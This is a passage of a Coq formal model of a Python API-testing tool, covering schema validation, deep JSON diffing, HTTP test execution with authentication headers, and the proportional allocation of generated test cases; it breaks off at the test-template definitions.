(** * Flux-test: test generation, execution and structural comparison

    A shallow embedding of the test-case generation and execution engine
    ([backend/v3.py]) and of the schema validator and deep diff
    ([backend/backend.py]), with the properties of its specification.

    Python values are modelled by [json]; Python [int] is [Z]; Python
    [float] is an IEEE-754 binary64 number, [spec_float] at precision 53
    and maximal exponent 1024; a [dict] is an association list in insertion
    order whose keys are pairwise distinct; an exception is a [Raise]
    result.  The calls that leave the repository (the HTTP exchange, the
    generation provider, [jsonschema.validate], a few string builtins) are
    inputs of the model. *)

From Stdlib Require Import ZArith List String Ascii Bool Lia DecimalString.
From Stdlib Require Import Floats.SpecFloat.
Import ListNotations.

Local Open Scope string_scope.
Local Open Scope list_scope.
Local Open Scope Z_scope.

Infix "+++" := String.append (at level 60, right associativity).

(* ================================================================== *)
(** ** Exceptions *)

Inductive py_exception :=
| AttributeError (msg : string)
| TypeError (msg : string)
| ValueError (msg : string)
| OverflowError (msg : string).

Inductive result (A : Type) :=
| Ok (a : A)
| Raise (e : py_exception).

Arguments Ok {A} a.
Arguments Raise {A} e.

Definition bind {A B : Type} (c : result A) (k : A -> result B) : result B :=
  match c with
  | Ok a => k a
  | Raise e => Raise e
  end.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).

Definition exception_text (e : py_exception) : string :=
  match e with
  | AttributeError m | TypeError m | ValueError m | OverflowError m => m
  end.

Definition is_ok {A : Type} (r : result A) : bool :=
  match r with Ok _ => true | Raise _ => false end.

(** An exception that leaves a method of the tester uncaught: one of
    Python's own, or one of a class of a library ([SchemaError] of
    [jsonschema], ...). *)
Inductive tester_exception :=
| PyError (e : py_exception)
| LibraryError (class_name message : string).

(** How a call of a method of the tester ends: it returns, or an exception
    escapes it. *)
Inductive ending (A : Type) :=
| Returns (a : A)
| Escapes (e : tester_exception).

Arguments Returns {A} a.
Arguments Escapes {A} e.

(** What [jsonschema.validate] does: it returns, it raises
    [ValidationError] with a message, or it raises something else (a
    [SchemaError] for a schema that is no valid schema, ...). *)
Inductive SchemaCheck :=
| Conforms
| ValidationError (message : string)
| SchemaRaises (e : tester_exception).

(* ================================================================== *)
(** ** Python values *)

Unset Elimination Schemes.
Inductive json :=
| JNull
| JBool (b : bool)
| JInt (n : Z)
| JFloat (f : spec_float)
| JStr (s : string)
| JArr (xs : list json)
| JObj (kvs : list (string * json)).
Set Elimination Schemes.

Definition dict := list (string * json).

Inductive py_type := NoneType | PyBool | PyInt | PyFloat | PyStr | PyList | PyDict.

Definition type_of (v : json) : py_type :=
  match v with
  | JNull => NoneType
  | JBool _ => PyBool
  | JInt _ => PyInt
  | JFloat _ => PyFloat
  | JStr _ => PyStr
  | JArr _ => PyList
  | JObj _ => PyDict
  end.

Definition py_type_eqb (a b : py_type) : bool :=
  match a, b with
  | NoneType, NoneType | PyBool, PyBool | PyInt, PyInt | PyFloat, PyFloat
  | PyStr, PyStr | PyList, PyList | PyDict, PyDict => true
  | _, _ => false
  end.

(** [type(v).__name__] *)
Definition type_name (v : json) : string :=
  match type_of v with
  | NoneType => "NoneType"
  | PyBool => "bool"
  | PyInt => "int"
  | PyFloat => "float"
  | PyStr => "str"
  | PyList => "list"
  | PyDict => "dict"
  end.

(** [isinstance]: [bool] is a subclass of [int]. *)
Definition isinstance_str (v : json) : bool :=
  match v with JStr _ => true | _ => false end.
Definition isinstance_int (v : json) : bool :=
  match v with JInt _ | JBool _ => true | _ => false end.
Definition isinstance_int_float (v : json) : bool :=
  match v with JInt _ | JBool _ | JFloat _ => true | _ => false end.
Definition isinstance_bool (v : json) : bool :=
  match v with JBool _ => true | _ => false end.
Definition isinstance_dict (v : json) : bool :=
  match v with JObj _ => true | _ => false end.
Definition isinstance_list (v : json) : bool :=
  match v with JArr _ => true | _ => false end.

(** *** Dictionaries *)

Fixpoint dict_get {A : Type} (k : string) (d : list (string * A)) : option A :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else dict_get k d'
  end.

Definition dict_has {A : Type} (k : string) (d : list (string * A)) : bool :=
  match dict_get k d with Some _ => true | None => false end.

(** [d[k] = v]: the value is replaced in place, a new key goes last. *)
Fixpoint dict_set {A : Type} (k : string) (v : A) (d : list (string * A))
  : list (string * A) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k k' then (k', v) :: d' else (k', v') :: dict_set k v d'
  end.

Definition dict_setdefault {A : Type} (k : string) (v : A) (d : list (string * A))
  : list (string * A) :=
  if dict_has k d then d else dict_set k v d.

Definition dict_keys {A : Type} (d : list (string * A)) : list string :=
  map fst d.

Fixpoint mem_string (k : string) (l : list string) : bool :=
  match l with
  | [] => false
  | k' :: l' => String.eqb k k' || mem_string k l'
  end.

Fixpoint nodup_keys (l : list string) : bool :=
  match l with
  | [] => true
  | k :: l' => negb (mem_string k l') && nodup_keys l'
  end.

(** The representation invariant of a Python value: the keys of every
    dictionary are pairwise distinct. *)
Fixpoint json_wf (v : json) : bool :=
  match v with
  | JArr xs => forallb json_wf xs
  | JObj kvs =>
      nodup_keys (map fst kvs) && forallb (fun kv => json_wf (snd kv)) kvs
  | _ => true
  end.

(** *** Floats *)

Definition prec : Z := 53.
Definition emax : Z := 1024.

(** The double nearest to an integer (ties to even). *)
Definition float_of_Z (n : Z) : spec_float := binary_normalize prec emax n 0 false.

(** The literal [num/den] written in decimal, e.g. [0.25] is [float_lit 25 100]:
    a literal denotes the double nearest to its decimal value, which is what
    the correctly rounded quotient of the two integers is. *)
Definition float_lit (num den : Z) : spec_float :=
  SFdiv prec emax (float_of_Z num) (float_of_Z den).

(** [float(n)], as done by [n * x] for an [int] n and a [float] x. *)
Definition py_float_of_int (n : Z) : result spec_float :=
  match float_of_Z n with
  | S754_infinity _ => Raise (OverflowError "int too large to convert to float")
  | f => Ok f
  end.

Definition py_mul_int_float (n : Z) (x : spec_float) : result spec_float :=
  f <- py_float_of_int n ;; Ok (SFmul prec emax f x).

(** [int(x)]: truncation towards zero. *)
Definition py_int_of_float (x : spec_float) : result Z :=
  match x with
  | S754_zero _ => Ok 0
  | S754_finite s m e =>
      Ok (cond_Zopp s (if 0 <=? e then Zpos m * 2 ^ e else Zpos m / 2 ^ (- e)))
  | S754_infinity _ => Raise (OverflowError "cannot convert float infinity to integer")
  | S754_nan => Raise (ValueError "cannot convert float NaN to integer")
  end.

(** Numbers compare by their exact value, an [int] with a [float] too. *)
Inductive exact_number :=
| Dyadic (m e : Z)   (* m * 2^e *)
| PlusInf
| MinusInf
| NotANumber.

Definition exact_of_float (x : spec_float) : exact_number :=
  match x with
  | S754_zero _ => Dyadic 0 0
  | S754_finite s m e => Dyadic (cond_Zopp s (Zpos m)) e
  | S754_infinity s => if s then MinusInf else PlusInf
  | S754_nan => NotANumber
  end.

Definition exact_compare (a b : exact_number) : option comparison :=
  match a, b with
  | NotANumber, _ | _, NotANumber => None
  | PlusInf, PlusInf | MinusInf, MinusInf => Some Eq
  | PlusInf, _ | _, MinusInf => Some Gt
  | MinusInf, _ | _, PlusInf => Some Lt
  | Dyadic m1 e1, Dyadic m2 e2 =>
      let e := Z.min e1 e2 in
      Some (Z.compare (m1 * 2 ^ (e1 - e)) (m2 * 2 ^ (e2 - e)))
  end.

Definition as_number (v : json) : option exact_number :=
  match v with
  | JBool b => Some (Dyadic (if b then 1 else 0) 0)
  | JInt n => Some (Dyadic n 0)
  | JFloat x => Some (exact_of_float x)
  | _ => None
  end.

(** [n >= x] for an [int] n and a [float] x. *)
Definition py_ge_int_float (n : Z) (x : spec_float) : bool :=
  match exact_compare (Dyadic n 0) (exact_of_float x) with
  | Some Lt | None => false
  | Some _ => true
  end.

(** *** Equality and truth value *)

(** [a == b] *)
Fixpoint py_eq (a b : json) {struct a} : bool :=
  match a, b with
  | JNull, JNull => true
  | JStr s, JStr t => String.eqb s t
  | JArr xs, JArr ys =>
      (fix all2 (xs ys : list json) {struct xs} : bool :=
         match xs, ys with
         | [], [] => true
         | x :: xs', y :: ys' => py_eq x y && all2 xs' ys'
         | _, _ => false
         end) xs ys
  | JObj kvs, JObj kvs' =>
      Nat.eqb (List.length kvs) (List.length kvs')
      && forallb (fun kv => match dict_get (fst kv) kvs' with
                            | Some v' => py_eq (snd kv) v'
                            | None => false
                            end) kvs
  | _, _ =>
      match as_number a, as_number b with
      | Some x, Some y =>
          match exact_compare x y with Some Eq => true | _ => false end
      | _, _ => false
      end
  end.

(** [bool(v)] *)
Definition py_truthy (v : json) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JInt n => negb (n =? 0)
  | JFloat (S754_zero _) => false
  | JFloat _ => true
  | JStr s => negb (String.eqb s "")
  | JArr xs => match xs with [] => false | _ => true end
  | JObj kvs => match kvs with [] => false | _ => true end
  end.

Fixpoint has_nan (v : json) : bool :=
  match v with
  | JFloat S754_nan => true
  | JArr xs => existsb has_nan xs
  | JObj kvs => existsb (fun kv => has_nan (snd kv)) kvs
  | _ => false
  end.

(** *** Strings *)

Definition string_of_Z (n : Z) : string := NilZero.string_of_int (Z.to_int n).

Definition string_of_nat (n : nat) : string := string_of_Z (Z.of_nat n).

(** [s * n] *)
Definition string_mul (s : string) (n : N) : string :=
  N.iter n (String.append s) "".

Definition chr (n : nat) : string := String (ascii_of_nat n) "".

Definition dquote : string := chr 34.

Fixpoint chars (s : string) : list string :=
  match s with
  | EmptyString => []
  | String c s' => String c "" :: chars s'
  end.

Definition len {A : Type} (l : list A) : Z := Z.of_nat (List.length l).

(** The builtins and the library calls the code relies on and that are
    left abstract: [repr] of a float or of a container (as an f-string
    prints it), the format [:.2f] of a float, [str.upper], [int] of a string
    ([None] for [ValueError]), and [jsonschema.validate]. *)
Class Builtins := {
  py_repr : json -> string;
  format_2f : spec_float -> string;
  py_upper : string -> string;
  py_int_of_str : string -> option Z;
  jsonschema_validate : json -> json -> SchemaCheck
}.

(* ================================================================== *)
(** ** [backend/backend.py]: schema validation and deep diff *)

Section Backend.
Context `{Builtins}.

(** [str(v)], as an f-string formats [v]. *)
Definition py_str (v : json) : string :=
  match v with
  | JStr s => s
  | JInt n => string_of_Z n
  | JBool true => "True"
  | JBool false => "False"
  | JNull => "None"
  | _ => py_repr v
  end.

Definition no_attribute (v : json) (attr : string) : py_exception :=
  AttributeError ("'" +++ type_name v +++ "' object has no attribute '" +++ attr +++ "'").

(** [d.get(k, default)] *)
Definition py_get (d : json) (k : string) (default : json) : result json :=
  match d with
  | JObj kvs => Ok (match dict_get k kvs with Some v => v | None => default end)
  | _ => Raise (no_attribute d "get")
  end.

(** [d.items()] *)
Definition py_items (d : json) : result dict :=
  match d with
  | JObj kvs => Ok kvs
  | _ => Raise (no_attribute d "items")
  end.

(** The items a [for] loop over [v] visits. *)
Definition py_iter (v : json) : result (list json) :=
  match v with
  | JArr xs => Ok xs
  | JObj kvs => Ok (map (fun kv => JStr (fst kv)) kvs)
  | JStr s => Ok (map JStr (chars s))
  | _ => Raise (TypeError ("'" +++ type_name v +++ "' object is not iterable"))
  end.

(** [key in d] for a dictionary [d]: a list or a dictionary cannot be
    hashed; the keys of [d] are strings. *)
Definition py_in_dict (key : json) (d : dict) : result bool :=
  match key with
  | JArr _ | JObj _ => Raise (TypeError ("unhashable type: '" +++ type_name key +++ "'"))
  | JStr k => Ok (dict_has k d)
  | _ => Ok false
  end.

(** An entry of the list of errors.  [sv_expected] and [sv_actual] are
    [None] where the dictionary of the source has no such key. *)
Record SchemaViolation := {
  sv_type : string;
  sv_path : json;
  sv_expected : option json;
  sv_actual : option json;
  sv_message : string
}.

Definition field_mismatch (value path : json) (expected : string) : SchemaViolation :=
  {| sv_type := "type_mismatch";
     sv_path := path;
     sv_expected := Some (JStr expected);
     sv_actual := Some (JStr (type_name value));
     sv_message := "Field '" +++ py_str path +++ "' should be " +++ expected
                   +++ ", got " +++ type_name value |}.

Definition validate_field (value schema path : json) : result (list SchemaViolation) :=
  expected_type <- py_get schema "type" JNull ;;
  if py_eq expected_type (JStr "string") && negb (isinstance_str value) then
    Ok [field_mismatch value path "string"]
  else if py_eq expected_type (JStr "number") && negb (isinstance_int_float value) then
    Ok [field_mismatch value path "number"]
  else if py_eq expected_type (JStr "integer") && negb (isinstance_int value) then
    Ok [field_mismatch value path "integer"]
  else if py_eq expected_type (JStr "boolean") && negb (isinstance_bool value) then
    Ok [field_mismatch value path "boolean"]
  else if py_eq expected_type (JStr "object") && negb (isinstance_dict value) then
    Ok [field_mismatch value path "object"]
  else if py_eq expected_type (JStr "array") && negb (isinstance_list value) then
    Ok [field_mismatch value path "array"]
  else Ok [].

(** The body of the [try] of [validate_against_schema] appends to [errors]
    as it goes, so that what was appended before an exception stays: a
    computation yields the errors appended and how it ended. *)
Definition logged (A : Type) : Type := (list SchemaViolation * result A)%type.

Definition lret {A : Type} (a : A) : logged A := ([], Ok a).

Definition lbind {A B : Type} (c : logged A) (k : A -> logged B) : logged B :=
  match c with
  | (errs, Ok a) => let (errs', r) := k a in (errs ++ errs', r)
  | (errs, Raise e) => (errs, Raise e)
  end.

Definition lift {A : Type} (r : result A) : logged A := ([], r).

Definition append_errors (errs : list SchemaViolation) : logged unit := (errs, Ok tt).

Notation "x <~ c ;; k" := (lbind c (fun x => k))
  (at level 61, c at next level, right associativity).
Notation "c ;;; k" := (lbind c (fun _ => k))
  (at level 61, right associativity).

Definition root_mismatch (data : json) (expected : string) : SchemaViolation :=
  {| sv_type := "type_mismatch";
     sv_path := JStr "root";
     sv_expected := Some (JStr expected);
     sv_actual := Some (JStr (type_name data));
     sv_message := "Expected " +++ expected +++ ", got " +++ type_name data |}.

Definition missing_required (field : json) : SchemaViolation :=
  {| sv_type := "missing_required_field";
     sv_path := field;
     sv_expected := Some field;
     sv_actual := Some JNull;
     sv_message := "Required field '" +++ py_str field +++ "' is missing" |}.

Definition validation_error (e : py_exception) : SchemaViolation :=
  {| sv_type := "validation_error";
     sv_path := JStr "root";
     sv_expected := None;
     sv_actual := None;
     sv_message := "Schema validation error: " +++ exception_text e |}.

(** [for field in required: if field not in data: errors.append(...)] *)
Fixpoint check_required (required : list json) (data : dict) : logged unit :=
  match required with
  | [] => lret tt
  | field :: rest =>
      present <~ lift (py_in_dict field data) ;;
      (if present then lret tt else append_errors [missing_required field]) ;;;
      check_required rest data
  end.

(** [for field, field_schema in properties.items(): if field in data: ...] *)
Fixpoint check_properties (properties : dict) (data : dict) : logged unit :=
  match properties with
  | [] => lret tt
  | (field, field_schema) :: rest =>
      match dict_get field data with
      | Some value =>
          field_errors <~ lift (validate_field value field_schema (JStr field)) ;;
          append_errors field_errors
      | None => lret tt
      end ;;;
      check_properties rest data
  end.

Definition validate_against_schema_try (data schema : json) : logged unit :=
  schema_type <~ lift (py_get schema "type" JNull) ;;
  if py_eq schema_type (JStr "object") then
    match data with
    | JObj fields =>
        required <~ lift (py_get schema "required" (JArr [])) ;;
        required_fields <~ lift (py_iter required) ;;
        check_required required_fields fields ;;;
        properties <~ lift (py_get schema "properties" (JObj [])) ;;
        items <~ lift (py_items properties) ;;
        check_properties items fields
    | _ => append_errors [root_mismatch data "object"]
    end
  else if py_eq schema_type (JStr "array") then
    if isinstance_list data then lret tt
    else append_errors [root_mismatch data "array"]
  else lret tt.

Definition validate_against_schema (data schema : json) : list SchemaViolation :=
  match validate_against_schema_try data schema with
  | (errors, Ok _) => errors
  | (errors, Raise e) => errors ++ [validation_error e]
  end.

(** The number of [missing_required_field] violations reported for [field]. *)
Definition is_missing_required (field : string) (v : SchemaViolation) : bool :=
  String.eqb (sv_type v) "missing_required_field"
  && match sv_path v with JStr p => String.eqb p field | _ => false end.

Definition count_missing_required (field : string) (errors : list SchemaViolation) : nat :=
  List.length (filter (is_missing_required field) errors).

(** *** Deep diff *)

Inductive change_type :=
| added | removed | value_changed | type_changed | array_length_changed.

Record Difference := {
  path : string;
  baseline_value : json;
  current_value : json;
  change : change_type
}.

(** [path or "root"] *)
Definition path_or_root (p : string) : string :=
  if String.eqb p "" then "root" else p.

(** [f"{path}.{key}" if path else key] *)
Definition key_path (p key : string) : string :=
  if String.eqb p "" then key else p +++ "." +++ key.

(** [f"{path}[{i}]"] *)
Definition index_path (p : string) (i : nat) : string :=
  p +++ "[" +++ string_of_nat i +++ "]".

Definition array_label (xs : list json) : json :=
  JStr ("array[" +++ string_of_nat (List.length xs) +++ "]").

(** The keys of [set(baseline.keys()) | set(current.keys())] are visited
    here in the order: the keys of [baseline], then the keys only [current]
    has (the source iterates over a set, in no fixed order). *)
Fixpoint find_json_differences (baseline current : json) (p : string)
  {struct baseline} : list Difference :=
  if negb (py_type_eqb (type_of baseline) (type_of current)) then
    [ {| path := path_or_root p; baseline_value := baseline;
         current_value := current; change := type_changed |} ]
  else
    match baseline, current with
    | JObj bs, JObj cs =>
        flat_map
          (fun kv =>
             match dict_get (fst kv) cs with
             | None =>
                 [ {| path := key_path p (fst kv); baseline_value := snd kv;
                      current_value := JNull; change := removed |} ]
             | Some c => find_json_differences (snd kv) c (key_path p (fst kv))
             end) bs
        ++ flat_map
             (fun kv =>
                if dict_has (fst kv) bs then []
                else [ {| path := key_path p (fst kv); baseline_value := JNull;
                          current_value := snd kv; change := added |} ]) cs
    | JArr bs, JArr cs =>
        if negb (Nat.eqb (List.length bs) (List.length cs)) then
          [ {| path := path_or_root p; baseline_value := array_label bs;
               current_value := array_label cs; change := array_length_changed |} ]
        else
          (fix items (bs cs : list json) (i : nat) {struct bs} : list Difference :=
             match bs, cs with
             | b_item :: bs', c_item :: cs' =>
                 find_json_differences b_item c_item (index_path p i)
                 ++ items bs' cs' (S i)
             | _, _ => []
             end) bs cs 0%nat
    | _, _ =>
        if negb (py_eq baseline current) then
          [ {| path := path_or_root p; baseline_value := baseline;
               current_value := current; change := value_changed |} ]
        else []
    end.

End Backend.

(* ================================================================== *)
(** ** [backend/v3.py], class [APITester]: executing test cases *)

(** What [requests] hands back.  [json_body] is [response.json()], [None]
    when the text is not JSON; [elapsed] is [response.elapsed.total_seconds()]. *)
Record Response := {
  status_code : Z;
  text : string;
  json_body : option json;
  elapsed : spec_float
}.

(** The ways the HTTP call of [test_request] ends: with a response, or
    with an exception, of which [test_request] catches the first two
    kinds. *)
Inductive Outcome :=
| Responded (r : Response)
| Timeout                         (* requests.exceptions.Timeout *)
| RequestError (msg : string)     (* any other RequestException, [msg] is [str(e)] *)
| Raises (e : tester_exception).  (* an exception that is no RequestException *)

(** What the world does during one call of [test_request]: how the HTTP
    call ends, what [datetime.now()] prints as, and what the analysis of a
    failure yields when the analyzer is on ([JNull] when it declines or
    fails).  The URL, the headers and the credentials of the request only
    feed the HTTP call. *)
Record World := {
  outcome : Outcome;
  now : string;
  analysis : json
}.

Inductive Status := PASS | FAIL.

Record TestResult := {
  test : string;
  status : Status;
  details : string;
  timestamp : string;
  response_data : option (Z * spec_float);
  ai_analysis : option json
}.

Record APITester := {
  base_url : string;
  results : list TestResult;
  auth_config : dict;
  timeout : Z;
  analyzer_on : bool      (* [self.ai_analyzer and self.enable_ai_analysis] *)
}.

(** [test_case.get(key, default)] *)
Definition get_or (test_case : dict) (key : string) (default : json) : json :=
  match dict_get key test_case with Some v => v | None => default end.

(** The headers of a request: a dictionary whose keys are any values that
    can be hashed, equal keys being those that [==] holds of. *)
Definition Headers := list (json * json).

(** [headers[key]], [None] where the source raises [KeyError] *)
Fixpoint headers_get (key : json) (headers : Headers) : option json :=
  match headers with
  | [] => None
  | (k, v) :: rest => if py_eq key k then Some v else headers_get key rest
  end.

(** [headers[key] = v]: the value is replaced in place, a new key goes last. *)
Fixpoint headers_set (key v : json) (headers : Headers) : Headers :=
  match headers with
  | [] => [(key, v)]
  | (k, v') :: rest =>
      if py_eq key k then (k, v) :: rest else (k, v') :: headers_set key v rest
  end.

(** [headers.update(custom_headers)] *)
Definition headers_update (headers : Headers) (custom_headers : dict) : Headers :=
  fold_left (fun headers kv => headers_set (JStr (fst kv)) (snd kv) headers)
            custom_headers headers.

Section Tester.
Context `{Builtins}.

Definition log_result (self : APITester) (w : World) (test_name : string)
  (st : Status) (det : string) (data : option (Z * spec_float))
  (ai : json) : APITester :=
  let result :=
    {| test := test_name; status := st; details := det; timestamp := now w;
       response_data := data;
       ai_analysis := if py_truthy ai then Some ai else None |} in
  {| base_url := base_url self;
     results := results self ++ [result];
     auth_config := auth_config self;
     timeout := timeout self;
     analyzer_on := analyzer_on self |}.

(** [APITester._get_headers]; [custom_headers] is [None] or a dictionary.
    A [key_name] that cannot be hashed, a list or a dictionary, makes the
    assignment [headers[key_name] = api_key] raise [TypeError]. *)
Definition _get_headers (self : APITester) (custom_headers : option dict)
  : result Headers :=
  let headers := [(JStr "Content-Type", JStr "application/json")] in
  let headers :=
    match custom_headers with
    | Some (kv :: custom) => headers_update headers (kv :: custom)
    | _ => headers
    end in
  let auth_type := get_or (auth_config self) "type" (JStr "none") in
  if py_eq auth_type (JStr "bearer") then
    let token := get_or (auth_config self) "token" (JStr "") in
    if py_truthy token
    then Ok (headers_set (JStr "Authorization") (JStr ("Bearer " +++ py_str token))
               headers)
    else Ok headers
  else if py_eq auth_type (JStr "api_key") then
    let key_name := get_or (auth_config self) "key_name" (JStr "X-API-Key") in
    let api_key := get_or (auth_config self) "api_key" (JStr "") in
    if py_truthy api_key then
      match key_name with
      | JArr _ | JObj _ =>
          Raise (TypeError ("unhashable type: '" +++ type_name key_name +++ "'"))
      | _ => Ok (headers_set key_name api_key headers)
      end
    else Ok headers
  else Ok headers.

(** An exception of [jsonschema.validate] other than [ValidationError]
    escapes. *)
Definition _validate_response_body (response : Response)
  (expected_body expected_schema : json) : ending (bool * string) :=
  match json_body response with
  | None => Returns (false, "Response is not valid JSON")
  | Some response_json =>
      if py_truthy expected_body then
        if py_eq response_json expected_body
        then Returns (true, "Response body matches expected")
        else Returns (false, "Body mismatch. Expected: " +++ py_str expected_body
                             +++ ", Got: " +++ py_str response_json)
      else if py_truthy expected_schema then
        match jsonschema_validate response_json expected_schema with
        | Conforms => Returns (true, "Response matches schema")
        | ValidationError message =>
            Returns (false, "Schema validation failed: " +++ message)
        | SchemaRaises e => Escapes e
        end
      else Returns (true, "No body validation specified")
  end.

Definition supported_method (method : json) : bool :=
  py_eq method (JStr "GET") || py_eq method (JStr "POST")
  || py_eq method (JStr "PUT") || py_eq method (JStr "PATCH")
  || py_eq method (JStr "DELETE").

(** [response.status_code in expected_status] for a list, [==] otherwise. *)
Definition status_match (code : Z) (expected_status : json) : bool :=
  match expected_status with
  | JArr codes => existsb (py_eq (JInt code)) codes
  | _ => py_eq (JInt code) expected_status
  end.

Definition expected_str (expected_status : json) : string :=
  match expected_status with
  | JArr _ => "one of " +++ py_str expected_status
  | _ => py_str expected_status
  end.

(** [". ".join(parts)] *)
Fixpoint join_dot (parts : list string) : string :=
  match parts with
  | [] => ""
  | [x] => x
  | x :: rest => x +++ ". " +++ join_dot rest
  end.

(** How the call of [requests] ends for this tester.  A timeout that is not
    positive is refused with a [ValueError] once the request is prepared,
    so that such a call is never answered and never times out. *)
Definition http_call (self : APITester) (w : World) : Outcome :=
  match outcome w with
  | RequestError msg => RequestError msg
  | Raises e => Raises e
  | o =>
      if timeout self <=? 0 then
        Raises (PyError (ValueError
          ("Attempted to set connect timeout to " +++ string_of_Z (timeout self)
           +++ ", but the timeout cannot be set to a value less than or equal to 0.")))
      else o
  end.

(** The analysis logged with a failure: none unless the analyzer is on. *)
Definition failure_analysis (self : APITester) (w : World) : json :=
  if analyzer_on self then analysis w else JNull.

(** [test_request]: the tester after the call and the value returned, or
    the exception that escapes, in which case nothing is logged.  The
    headers are built before the [try]; inside it only [Timeout] and
    [RequestException] are caught. *)
Definition test_request (self : APITester) (w : World)
  (method endpoint data expected_status : json) (headers : option dict)
  (test_name : option string)
  (params expected_body expected_schema validate_body : json)
  : ending (APITester * option Response) :=
  let url := base_url self +++ py_str endpoint in
  let test_name := match test_name with
                   | Some name => name
                   | None => py_str method +++ " " +++ url
                   end in
  match _get_headers self headers with
  | Raise e => Escapes (PyError e)
  | Ok request_headers =>
      if negb (supported_method method) then
        Returns (log_result self w test_name FAIL
                   ("Unsupported method: " +++ py_str method) None JNull, None)
      else
        match http_call self w with
        | Responded response =>
            let code := status_code response in
            let matched := status_match code expected_status in
            match (if py_truthy validate_body && matched
                   then _validate_response_body response expected_body expected_schema
                   else Returns (true, "")) with
            | Escapes e => Escapes e
            | Returns (body_valid, body_message) =>
                if matched && body_valid then
                  let det := "Status: " +++ string_of_Z code +++ ", Time: "
                             +++ format_2f (elapsed response) +++ "s" in
                  let det := if py_truthy validate_body
                             then det +++ ", " +++ body_message else det in
                  Returns (log_result self w test_name PASS det
                             (Some (code, elapsed response)) JNull, Some response)
                else
                  let failure_reason :=
                    (if matched then []
                     else ["Expected status " +++ expected_str expected_status
                           +++ ", got " +++ string_of_Z code])
                    ++ (if body_valid then [] else [body_message]) in
                  let det := join_dot failure_reason in
                  let det := if (0 <? Z.of_nat (String.length (text response)))
                             then det +++ ". Response: "
                                  +++ substring 0 200 (text response)
                             else det in
                  Returns (log_result self w test_name FAIL det None
                             (failure_analysis self w), None)
            end
        | Timeout =>
            Returns (log_result self w test_name FAIL
                       ("Request timeout after " +++ string_of_Z (timeout self) +++ "s")
                       None (failure_analysis self w), None)
        | RequestError msg =>
            Returns (log_result self w test_name FAIL ("Error: " +++ msg)
                       None (failure_analysis self w), None)
        | Raises e => Escapes e
        end
  end.

(** The name under which the runner logs the [i]-th case, counted from 1. *)
Definition runner_test_name (i : nat) (test_case : dict) : string :=
  let description := get_or test_case "description" (JStr ("Test " +++ string_of_nat i)) in
  let category := get_or test_case "category" (JStr "other") in
  if py_eq category (JStr "custom")
  then "[Custom Test " +++ string_of_nat i +++ "] " +++ py_str description
  else "[AI Test " +++ string_of_nat i +++ "] " +++ py_str description.

(** One turn of the loop of [run_ai_generated_tests]; the runner passes no
    headers. *)
Definition run_one (self : APITester) (w : World) (i : nat) (test_case : dict)
  : ending APITester :=
  match test_request self w
          (get_or test_case "method" (JStr "GET"))
          (get_or test_case "endpoint" (JStr ""))
          (get_or test_case "data" JNull)
          (get_or test_case "expected_status" (JInt 200))
          None
          (Some (runner_test_name i test_case))
          (get_or test_case "params" JNull)
          (get_or test_case "expected_body" JNull)
          (get_or test_case "expected_schema" JNull)
          (get_or test_case "validate_body" (JBool false)) with
  | Returns (self', _) => Returns self'
  | Escapes e => Escapes e
  end.

(** [for i, test_case in enumerate(test_cases, 1)], from index [i] on; the
    world of the [i]-th case is [world i].  An exception that escapes a
    request ends the run: the tester keeps what was logged before it. *)
Fixpoint run_from (self : APITester) (world : nat -> World) (i : nat)
  (test_cases : list dict) : APITester * option tester_exception :=
  match test_cases with
  | [] => (self, None)
  | test_case :: rest =>
      match run_one self (world i) i test_case with
      | Returns self' => run_from self' world (S i) rest
      | Escapes e => (self, Some e)
      end
  end.

Definition run_ai_generated_tests (self : APITester) (world : nat -> World)
  (test_cases : list dict) : APITester * option tester_exception :=
  run_from self world 1%nat test_cases.

Definition get_summary_total (self : APITester) : Z := len (results self).

Definition get_summary_passed (self : APITester) : Z :=
  len (filter (fun r => match status r with PASS => true | FAIL => false end)
         (results self)).

End Tester.

(* ================================================================== *)
(** ** [backend/v3.py], class [OpenAITestGenerator]: generating test cases *)

(** *** The random source *)

(** The state of the generator of [random]: the draws still to come.
    [randbelow n] takes the next one, reduced below [n]. *)
Definition rng := list nat.

Definition randbelow (n : nat) (g : rng) : nat * rng :=
  match g with
  | [] => (0%nat, [])
  | d :: g' => (Nat.modulo d n, g')
  end.

Fixpoint list_set {A : Type} (i : nat) (v : A) (l : list A) : list A :=
  match l, i with
  | [], _ => []
  | _ :: l', O => v :: l'
  | a :: l', S i' => a :: list_set i' v l'
  end.

(** [x[i], x[j] = x[j], x[i]] *)
Definition swap {A : Type} (x : list A) (i j : nat) : list A :=
  match nth_error x i, nth_error x j with
  | Some xi, Some xj => list_set j xi (list_set i xj x)
  | _, _ => x
  end.

(** [for i in reversed(range(1, len(x))): j = randbelow(i + 1); swap],
    from index [i] down to 1. *)
Fixpoint shuffle_down {A : Type} (i : nat) (x : list A) (g : rng) : list A * rng :=
  match i with
  | O => (x, g)
  | S i' =>
      let (j, g') := randbelow (S i) g in
      shuffle_down i' (swap x i j) g'
  end.

(** [random.shuffle(x)] *)
Definition shuffle {A : Type} (x : list A) (g : rng) : list A * rng :=
  shuffle_down (List.length x - 1)%nat x g.

(** [l[:n]]: a negative [n] counts from the end. *)
Definition slice_to {A : Type} (l : list A) (n : Z) : list A :=
  if 0 <=? n then firstn (Z.to_nat n) l
  else firstn (Z.to_nat (len l + n)) l.

(** [range(n)] *)
Definition range (n : Z) : list nat := seq 0 (Z.to_nat n).

(** *** The proportional distribution *)

Record Counts := {
  happy_path : Z;
  negative_test : Z;
  security_test : Z;
  edge_case : Z;
  fuzz_test : Z
}.

(** [max(minimum, int(num * share))] *)
Definition share_count (minimum num : Z) (share : spec_float) : result Z :=
  x <- py_mul_int_float num share ;;
  n <- py_int_of_float x ;;
  Ok (Z.max minimum n).

Definition fallback_counts (num : Z) : result Counts :=
  happy <- share_count 3 num (float_lit 25 100) ;;
  negative <- share_count 3 num (float_lit 20 100) ;;
  security <- share_count 5 num (float_lit 20 100) ;;
  edge <- share_count 3 num (float_lit 15 100) ;;
  fuzz <- share_count 3 num (float_lit 20 100) ;;
  let total := happy + negative + security + edge + fuzz in
  let happy :=
    if total <? num then happy + (num - total)
    else if num <? total then happy - (total - num)
    else happy in
  Ok {| happy_path := happy; negative_test := negative;
        security_test := security; edge_case := edge; fuzz_test := fuzz |}.

(** *** The templates *)

Definition template (method endpoint : string) (payload : dict)
  (expected_status : list Z) (description : string) : dict :=
